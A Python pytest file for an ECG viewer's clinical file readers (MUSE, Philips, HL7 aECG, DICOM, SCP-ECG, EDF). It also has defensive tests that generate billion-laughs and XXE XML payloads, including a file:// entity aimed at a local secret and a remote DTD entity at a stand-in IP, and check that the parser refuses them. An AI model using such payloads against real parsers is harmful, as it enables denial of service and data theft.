"""Clinical formats (GE MUSE, Philips, HL7 aECG, DICOM, SCP-ECG, EDF): every public sample of
../shared/data/clinical against the facts of its SOURCES.md, detection by content, the quirks,
and XML attacks (billion laughs, XXE) refused without expanding or reading anything."""

from __future__ import annotations

import re
import shutil
import socket
from pathlib import Path

import numpy as np
import pytest
from conftest import shared_folder

from ecgviewer.cli import main
from ecgviewer.clinical import ClinicalInfo, qrs_peak_to_peak_mv
from ecgviewer.errors import ExamReadError
from ecgviewer.io import NotAnExamError, open_exams, read_exam
from ecgviewer.io.registry import reader_for
from ecgviewer.leads import INDEPENDENT_LEADS, LEADS
from ecgviewer.preprocess import to_model_input

# file: (format, leads, fs, duration s, lead II QRS p-p in mV) as SOURCES.md states them
SAMPLES: dict[str, tuple[str, int, float, float, float]] = {
    "dicom-ecg/ecgtoolkit_Example.dcm": ("dicom", 12, 500, 10.0, 0.94),
    "dicom-ecg/example-DICOM2.dcm": ("dicom", 12, 500, 10.0, 0.88),
    "dicom-ecg/pydicom_waveform_ecg.dcm": ("dicom", 12, 1000, 10.0, 1.15),
    "edf/contec_0000050.edf": ("edf", 12, 800, 47.319, 3.763),
    "ge-muse-xml/braveheart_example1.xml": ("ge-muse-xml", 8, 500, 10.0, 1.471),
    "ge-muse-xml/braveheart_example2.xml": ("ge-muse-xml", 8, 500, 10.0, 0.839),
    "ge-muse-xml/braveheart_example3.xml": ("ge-muse-xml", 8, 500, 10.0, 0.991),
    "ge-muse-xml/guangxi_teaching_sinus_rhythm.xml": ("ge-muse-xml", 8, 500, 10.0, 1.722),
    "hl7-aecg/hl7_example_aecg.xml": ("hl7-aecg", 12, 500, 10.0, 0.938),
    "philips-sierra-xml/129DYPRG.XML": ("philips-xml", 12, 500, 11.0, 0.915),
    "philips-sierra-xml/3191723_ZZDEMOPTONLY_1-04_orig.xml": ("philips-xml", 12, 500, 11.0, 2.092),
    "philips-sierra-xml/Philips103Example01.xml": ("philips-xml", 12, 500, 11.0, 1.633),
    "philips-sierra-xml/ad4d3d80-d165_1-04_orig.xml": ("philips-xml", 12, 500, 11.0, 0.938),
    "philips-sierra-xml/ecg_97082525_1.xml": ("philips-xml", 12, 500, 11.0, 1.378),
    "philips-sierra-xml/repbeats_example.xml": ("philips-xml", 12, 500, 11.0, 0.915),
    "scp-ecg/ecgtoolkit_Example.scp": ("scp-ecg", 12, 500, 10.0, 0.938),
}
REFUSED = {
    "scp-ecg/healforce_62.SCP": r"not an EN 1064 SCP-ECG record: the record size field says",
    "schiller-xml/schiller.xml": r"not an ECG format I know: Schiller SEMA XML",
}


@pytest.fixture(scope="module")
def clinical(shared_data: Path) -> Path:
    return shared_folder(shared_data, "clinical")


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_sample_matches_sources_md(clinical: Path, name: str) -> None:
    fmt, n_leads, fs, duration, pp_expected = SAMPLES[name]
    exam = read_exam(clinical / name)
    assert exam.format == fmt
    assert exam.leads == (LEADS if n_leads == 12 else INDEPENDENT_LEADS)
    assert exam.fs == fs
    assert exam.duration_s == pytest.approx(duration, abs=1e-3)
    assert np.isfinite(exam.signal_mv).all() and exam.signal_mv.dtype == np.float32
    pp = qrs_peak_to_peak_mv(exam.lead("II"), exam.fs)
    assert 0.5 <= pp <= 5.0
    assert pp == pytest.approx(pp_expected, abs=0.02)  # SOURCES.md, same measurement
    assert isinstance(exam.clinical, ClinicalInfo)
    x, _report = to_model_input(exam)  # 8 stored leads: the other four derived
    assert x.shape == (4096, 12) and np.isfinite(x).all()


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_unreadable_samples_are_refused_clearly(clinical: Path, name: str) -> None:
    with pytest.raises(ExamReadError, match=REFUSED[name]) as info:
        read_exam(clinical / name)
    assert info.value.path == clinical / name


def test_one_recording_in_three_formats_agrees_sample_for_sample(clinical: Path) -> None:
    aecg = read_exam(clinical / "hl7-aecg/hl7_example_aecg.xml")
    dicom = read_exam(clinical / "dicom-ecg/ecgtoolkit_Example.dcm")
    scp = read_exam(clinical / "scp-ecg/ecgtoolkit_Example.scp")
    assert aecg.leads == dicom.leads == scp.leads == LEADS
    assert aecg.signal_mv.shape == dicom.signal_mv.shape == scp.signal_mv.shape == (5000, 12)
    quantum = 0.0025  # 2.5 µV per count in all three files
    assert np.abs(aecg.signal_mv - dicom.signal_mv).max() <= quantum / 2 + 1e-6
    assert np.abs(aecg.signal_mv - scp.signal_mv).max() <= quantum / 2 + 1e-6


def test_dicom_padding_value_zero_keeps_true_zeros(clinical: Path) -> None:
    exam = read_exam(clinical / "dicom-ecg/ecgtoolkit_Example.dcm")
    assert int((exam.signal_mv == 0).sum()) == 1269  # the raw-zero samples, not NaN
    assert any("WaveformPaddingValue (0)" in n and "1269 samples" in n for n in exam.notes)


def test_muse_keeps_8_leads_and_median_beats(clinical: Path) -> None:
    exam = read_exam(clinical / "ge-muse-xml/guangxi_teaching_sinus_rhythm.xml")
    assert exam.leads == INDEPENDENT_LEADS
    assert any("III, aVR, aVL, aVF are derived" in n for n in exam.notes)
    beats = exam.clinical.median_beats
    assert beats is not None and beats.leads == INDEPENDENT_LEADS and beats.fs == 500
    assert 0.5 < beats.duration_s < 2.0 and beats.signal_mv.dtype == np.float32
    report = exam.clinical.device_report
    assert report.measurements["PR interval (ms)"] == 122
    assert report.lines()[0] == "device (MAC P), confirmed by a physician: 窦性心律"


def test_patient_and_acquisition_fields(clinical: Path) -> None:
    philips = read_exam(clinical / "philips-sierra-xml/3191723_ZZDEMOPTONLY_1-04_orig.xml")
    c = philips.clinical
    assert c.patient.name == "ADULT ZZDEMOPTONLY" and c.patient.patient_id == "9999"
    assert dict(c.identifier_rows())["Birth date"] == "1950-01-01"
    rows = dict(c.acquisition_rows())
    assert rows["Device"] == "Philips Medical Products PageWriter Touch"
    assert rows["Acquired"] == "2010-01-19T15:19:22" and rows["Cart filters"].startswith("0.05–150 Hz")
    assert "ZZDEMOPTONLY" not in repr(philips.meta) and "9999" not in repr(philips.meta)
    assert "ZZDEMOPTONLY" not in repr(c.acquisition_rows())
    lines = c.device_report.lines()
    assert lines[0] == (
        "device (Philips Medical Products PageWriter Touch): SINUS RHYTHM — normal P axis, V-rate 60-99"
    )
    assert lines[-1].endswith(": ABNORMAL")
    assert (philips.age, philips.sex) == (60, "M")
    # a time with its zone keeps it; one without stays naive (and says so)
    dicom = read_exam(clinical / "dicom-ecg/example-DICOM2.dcm")
    assert dicom.clinical.acquired == "2006-02-01T10:24:03+01:00" and dicom.recorded.utcoffset() is not None
    assert dicom.clinical.device_report.statements[0] == "ATRIAL FIBRILLATION"
    assert "PR interval (ms)" not in dicom.clinical.device_report.measurements  # 0 = not measured
    aecg = read_exam(clinical / "hl7-aecg/hl7_example_aecg.xml")
    assert aecg.clinical.acquired == "2002-11-22T09:10:00" and aecg.recorded.tzinfo is None
    assert any("no time zone" in n for n in aecg.notes)


def test_detection_by_content_not_extension(clinical: Path, tmp_path: Path) -> None:
    cases = {
        "dicom-ecg/pydicom_waveform_ecg.dcm": ("ecg_export", "dicom"),
        "ge-muse-xml/braveheart_example1.xml": ("muse.txt", "ge-muse-xml"),
        "philips-sierra-xml/129DYPRG.XML": ("philips.ecg", "philips-xml"),
        "hl7-aecg/hl7_example_aecg.xml": ("aecg.dat.bak", "hl7-aecg"),
        "scp-ecg/ecgtoolkit_Example.scp": ("record.bin", "scp-ecg"),
        "edf/contec_0000050.edf": ("contec.rec", "edf"),
    }
    for src, (name, fmt) in cases.items():
        dest = tmp_path / name
        shutil.copyfile(clinical / src, dest)
        assert reader_for(dest).name == fmt, name
        assert read_exam(dest).format == fmt
    # a CSV of samples under another extension is a CSV
    rows = "\n".join(",".join(f"{0.01 * (i + k):.3f}" for k in range(12)) for i in range(600))
    (tmp_path / "samples.ecg").write_text(rows + "\n")
    assert reader_for(tmp_path / "samples.ecg").name == "csv"
    # an SCP-ECG with its CRC broken is not recognised by content
    data = bytearray((clinical / "scp-ecg/ecgtoolkit_Example.scp").read_bytes())
    data[-1] ^= 0xFF
    (tmp_path / "damaged.scp").write_bytes(bytes(data))
    with pytest.raises(ExamReadError, match="record CRC does not match"):
        read_exam(tmp_path / "damaged.scp")


def test_wfdb_header_recognised_by_content(shared_data: Path, tmp_path: Path) -> None:
    for suffix in (".hea", ".dat"):
        shutil.copyfile(shared_data / f"ludb/data/1{suffix}", tmp_path / f"1{suffix}")
    assert reader_for(tmp_path / "1.hea").name == "wfdb"
    (tmp_path / "1.hea").rename(tmp_path / "1.txt")  # a header under another name: its record line
    text = (tmp_path / "1.txt").read_text()
    (tmp_path / "1").write_text(text)
    assert reader_for(tmp_path / "1").name == "wfdb"
    (tmp_path / "not-a-header.txt").write_text("hello world\n")
    assert reader_for(tmp_path / "not-a-header.txt").name == "csv"  # by extension: says what is wrong
    with pytest.raises(ExamReadError):
        read_exam(tmp_path / "not-a-header.txt")


def test_unknown_xml_root_is_named(tmp_path: Path) -> None:
    f = tmp_path / "order.xml"
    f.write_text('<?xml version="1.0"?>\n<!-- export -->\n<PurchaseOrder><item/></PurchaseOrder>\n')
    with pytest.raises(NotAnExamError, match=r"order\.xml: not an ECG format I know: .*<PurchaseOrder>"):
        read_exam(f)  # in a folder listing: a file that holds no ECG, not a broken ECG
    g = tmp_path / "broken.xml"
    g.write_text("this is not xml")
    with pytest.raises(ExamReadError, match=r"broken\.xml: not an ECG format I know"):
        read_exam(g)


def test_fifteen_lead_file_keeps_the_standard_twelve(tmp_path: Path) -> None:
    from ecgdatakit.models import ECGRecord, Lead

    from ecgviewer.io.clinical import FORMATS, record_to_exam

    rng = np.random.default_rng(0)
    names = [*LEADS, "V3R", "V4R", "V7"]
    leads = [Lead(n, rng.normal(0, 0.2, 5000), 500, units="mV", is_raw=False) for n in names]
    record = ECGRecord(leads=leads)
    exam = record_to_exam(tmp_path / "x.xml", FORMATS["philips-xml"], record, [])
    assert exam.leads == LEADS
    assert np.array_equal(exam.signal_mv[:, 0], leads[0].samples.astype(np.float32))
    assert any(n == "extra leads left out: V3R, V4R, V7" for n in exam.notes), exam.notes


# --- XML attacks ----------------------------------------------------------------------------

ROOTS = {
    "muse": "RestingECG",
    "philips": 'restingecgdata xmlns="http://www3.medical.philips.com"',
    "aecg": 'AnnotatedECG xmlns="urn:hl7-org:v3"',
}


def _billion_laughs(root: str) -> str:
    tag = root.split()[0]
    ents = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    return f'<?xml version="1.0"?>\n<!DOCTYPE {tag} [\n{chr(10).join(ents)}\n]>\n<{root}>&lol9;</{tag}>\n'


def _xxe(root: str, target: Path) -> str:
    tag = root.split()[0]
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {tag} [\n<!ENTITY secret SYSTEM "file://{target}">\n'
        f'<!ENTITY remote SYSTEM "http://198.51.100.7/x.dtd">\n]>\n<{root}>&secret;&remote;</{tag}>\n'
    )


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("network access while parsing")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


@pytest.mark.parametrize("attack", ["billion-laughs", "xxe"])
@pytest.mark.parametrize("kind", sorted(ROOTS))
def test_xml_attacks_are_refused(tmp_path: Path, kind: str, attack: str, no_network: None) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-42")
    f = tmp_path / f"{kind}-{attack}.xml"
    f.write_text(_billion_laughs(ROOTS[kind]) if attack == "billion-laughs" else _xxe(ROOTS[kind], secret))
    assert reader_for(f).name == {"muse": "ge-muse-xml", "philips": "philips-xml", "aecg": "hl7-aecg"}[kind]
    with pytest.raises(ExamReadError, match=r"declares entities .*refused for safety") as info:
        read_exam(f)
    assert info.value.path == f and "TOP-SECRET" not in str(info.value)


@pytest.mark.parametrize("kind", sorted(ROOTS))
def test_library_refuses_entities_too(tmp_path: Path, kind: str, no_network: None) -> None:
    """Behind our prolog check, the parser itself refuses the declarations (defense in depth)."""
    from ecgviewer.io.clinical import FORMATS, parse_record

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-42")
    f = tmp_path / f"{kind}.xml"
    f.write_text(_xxe(ROOTS[kind], secret))
    fmt = FORMATS[{"muse": "ge-muse-xml", "philips": "philips-xml", "aecg": "hl7-aecg"}[kind]]
    import ecgviewer.io.clinical as clinical

    original = clinical.check_xml_prolog
    clinical.check_xml_prolog = lambda path: None
    try:
        with pytest.raises(ExamReadError) as info:
            parse_record(f, fmt)
    finally:
        clinical.check_xml_prolog = original
    assert "TOP-SECRET" not in str(info.value)
    assert re.search(r"entit", str(info.value), re.IGNORECASE), str(info.value)


# --- CLI ----------------------------------------------------------------------------------------


def test_info_lists_every_clinical_sample(clinical: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["info", str(clinical)]) == 1  # two samples are refused
    out, err = capsys.readouterr()
    lines = [ln for ln in out.splitlines() if not ln.startswith(" ")]
    assert len(lines) == len(SAMPLES)
    for name, (fmt, n_leads, fs, duration, _pp) in SAMPLES.items():
        line = next(ln for ln in lines if ln.startswith(name + " "))
        assert re.search(rf"\s{fmt}\s+{fs:g} Hz\s+{duration:.2f} s\s+{n_leads} leads ", line), line
        assert re.search(r"II \d\.\d\d mV p-p", line), line
    assert "note: 1269 samples equal WaveformPaddingValue" in out
    for name in REFUSED:
        assert name.split("/")[1] in err
    assert "16 exams in 16 files; 2 files could not be read" in err


def test_predict_and_report_on_xml_and_dicom(clinical: Path, tmp_path: Path) -> None:
    files = [
        clinical / "philips-sierra-xml/ad4d3d80-d165_1-04_orig.xml",
        clinical / "dicom-ecg/example-DICOM2.dcm",
    ]
    out = tmp_path / "p.csv"
    assert main(["predict", *map(str, files), "--out", str(out), "--cpu", "--quiet"]) == 0
    text = out.read_text()
    assert "ad4d3d80-d165_1-04_orig" in text and "example-DICOM2" in text
    for f in files:
        pdf = tmp_path / f"{f.stem}.pdf"
        assert main(["report", str(f), "--out", str(pdf), "--no-shap", "--cpu", "--quiet"]) == 0
        assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 5000


def test_folder_of_clinical_files_opens_with_errors_collected(clinical: Path) -> None:
    with open_exams(clinical) as exams:
        assert len(exams) == len(SAMPLES)
        assert sorted(Path(str(e.path)).name for e in exams.errors) == ["healforce_62.SCP", "schiller.xml"]


def _zero_based_scp(data: bytes) -> bytes:
    """The SCP-ECG record with its section 3 lead ranges numbered from 0, CRCs recomputed."""
    import binascii
    import struct

    b = bytearray(data)
    sec0_len = struct.unpack_from("<I", b, 10)[0]
    for k in range(16, sec0_len, 10):
        sid, length, index = struct.unpack_from("<HII", b, 6 + k)
        if sid == 3 and length:
            start = index - 1
            for j in range(b[start + 16]):
                at = start + 18 + 9 * j
                first, last = struct.unpack_from("<II", b, at)
                struct.pack_into("<II", b, at, first - 1, last - 1)
            struct.pack_into("<H", b, start, binascii.crc_hqx(bytes(b[start + 2 : start + length]), 0xFFFF))
    struct.pack_into("<H", b, 0, binascii.crc_hqx(bytes(b[2:]), 0xFFFF))
    return bytes(b)


def test_scp_sample_ranges_starting_at_0(clinical: Path, tmp_path: Path) -> None:
    original = clinical / "scp-ecg/ecgtoolkit_Example.scp"
    shifted = tmp_path / "zero_based.scp"
    shifted.write_bytes(_zero_based_scp(original.read_bytes()))
    assert reader_for(shifted).name == "scp-ecg"  # CRCs still right
    exam = read_exam(shifted)
    assert np.array_equal(exam.signal_mv, read_exam(original).signal_mv)
    assert any("sample ranges start at 0" in n for n in exam.notes), exam.notes


def _padded_dicom(tmp_path: Path, pad: int, pad_rows: int) -> tuple[Path, np.ndarray]:
    import pydicom

    from ecgviewer.io.clinical_samples import write_dicom_ecg
    from ecgviewer.synth import synth_exam

    path = write_dicom_ecg(synth_exam(seed=3, duration_s=4.0), tmp_path / f"pad{pad}.dcm")
    ds = pydicom.dcmread(str(path))
    wf = ds.WaveformSequence[0]
    counts = np.frombuffer(wf.WaveformData, dtype="<i2").reshape(-1, 12).copy()
    if pad_rows:
        counts[-pad_rows:] = pad
    wf.WaveformData = counts.tobytes()
    wf.WaveformPaddingValue = int(pad).to_bytes(2, "little", signed=True)
    wf["WaveformPaddingValue"].VR = "OW"
    wf["WaveformData"].VR = "OW"
    ds.save_as(str(path))
    return path, counts


def test_dicom_real_padding_at_the_end_is_dropped(tmp_path: Path) -> None:
    path, counts = _padded_dicom(tmp_path, -32768, 100)
    exam = read_exam(path)
    assert exam.n_samples == counts.shape[0] - 100
    assert any("100 padding samples (WaveformPaddingValue -32768) dropped" in n for n in exam.notes)
    np.testing.assert_allclose(exam.lead("I"), counts[:-100, 0] * 0.0025, atol=1e-6)


def test_dicom_padding_value_zero_is_a_sample(tmp_path: Path) -> None:
    path, counts = _padded_dicom(tmp_path, 0, 0)
    n_zero = int((counts == 0).sum())
    assert n_zero > 0
    exam = read_exam(path)
    assert exam.n_samples == counts.shape[0] and int((exam.signal_mv == 0).sum()) >= n_zero
    np.testing.assert_allclose(exam.lead("II"), counts[:, 1] * 0.0025, atol=1e-6)
